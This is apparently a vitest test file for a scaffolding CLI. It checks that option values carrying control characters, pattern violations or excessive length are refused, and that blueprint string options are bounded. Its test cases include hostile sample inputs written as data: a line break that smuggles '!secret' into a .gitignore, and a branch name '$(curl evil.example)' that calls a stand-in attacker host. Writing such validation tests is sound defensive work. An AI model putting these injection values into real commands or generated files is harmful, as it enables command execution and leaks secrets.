import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { catalogue } from '../../blueprints/index.js';
import { cli, tempDir } from '../helpers/cli.js';

// Option values end up in files as names, branches and lines. A value that would start a new line in a
// generated file, or that is not a name where a name is expected, is refused before anything is written.

/** Every string option of a schema (dotted paths, `[]` for list items), with its schema. */
function stringOptions(schema: Record<string, unknown>, path = ''): [string, Record<string, unknown>][] {
  const out: [string, Record<string, unknown>][] = [];
  if (schema['type'] === 'string' && !schema['enum']) out.push([path, schema]);
  for (const [k, v] of Object.entries((schema['properties'] as Record<string, Record<string, unknown>> | undefined) ?? {})) out.push(...stringOptions(v, path ? `${path}.${k}` : k));
  if (schema['items']) out.push(...stringOptions(schema['items'] as Record<string, unknown>, `${path}[]`));
  return out;
}

describe('option values', () => {
  it.each([
    ['a line break in a .gitignore pattern', 'starter', 'ignore.0=x\n!secret', 'OPTION-CONTROL-CHARACTER'],
    ['a carriage return in a description', 'starter', 'description=one\rtwo', 'OPTION-CONTROL-CHARACTER'],
    ['a Unicode line separator', 'starter', 'description=one\u2028two', 'OPTION-CONTROL-CHARACTER'],
    ['a command substitution as a branch', 'secure-cdk-pipeline', 'source.branch=$(curl evil.example)', 'OPTION-PATTERN'],
    ['a 100,000-character branch', 'secure-cdk-pipeline', `source.branch=${'b'.repeat(100_000)}`, 'OPTION-PATTERN'],
    ['a boundary name with a space', 'secure-cdk-pipeline', 'permissionsBoundary.name=my boundary', 'OPTION-PATTERN'],
  ])('%s is refused and nothing is written', async (_, blueprint, set, code) => {
    const dir = join(tempDir('cg-options-'), 'app');
    const r = await cli('new', blueprint, dir, '--no-input', '--set', set);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(code);
    expect(existsSync(dir)).toBe(false);
  });

  it('a boundary name may use the placeholders the bootstrap template resolves', async () => {
    const dir = join(tempDir('cg-options-'), 'app');
    const r = await cli('new', 'secure-cdk-pipeline', dir, '--no-input', '--set', 'permissionsBoundary.name=cdk-${Qualifier}-boundary-${AWS::Region}');
    expect(r.code, r.stderr).toBe(0);
  });

  // Names, branches and paths: a built-in blueprint's string options are bounded by a pattern, a length or a
  // format (an e-mail address), so none takes unbounded text where a name is expected.
  it.each(catalogue.map((b) => [b.id, b] as const))('%s: every free-text string option is bounded', (_, bp) => {
    const unbounded = stringOptions(bp.options as Record<string, unknown>).filter(([, s]) => s['pattern'] === undefined && s['maxLength'] === undefined && s['format'] === undefined);
    expect(unbounded.map(([p]) => p)).toEqual([]);
  });
});
